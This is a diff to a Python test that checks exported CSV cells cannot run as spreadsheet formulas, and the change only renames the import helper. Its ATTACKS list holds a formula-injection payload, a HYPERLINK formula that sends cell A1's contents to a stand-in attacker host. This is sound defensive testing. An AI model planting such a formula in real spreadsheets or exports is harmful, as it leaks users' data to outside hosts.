@@ -9,7 +9,7 @@ import io
 import pytest
 
 from ingest.results import FORMULA_PREFIXES, safe_cell
-from tests.bad_input.conftest import import_bytes
+from tests.importing import import_checked
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -49,7 +49,7 @@ def attack_file() -> bytes:
 @pytest.mark.parametrize("dry_run", [False, True])
 @pytest.mark.parametrize("export", EXPORTS)
 def test_no_exported_cell_can_run_as_a_formula(export, dry_run):
-    ended = import_bytes(attack_file(), dry_run=dry_run)
+    ended = import_checked(attack_file(), dry_run=dry_run)
     assert ended.counts[0] == 2 * len(ATTACKS) and ended.counts[1] > 0
     rows = list(csv.reader(io.StringIO(EXPORTS[export](ended.run))))
     cells = [cell for row in rows for cell in row]
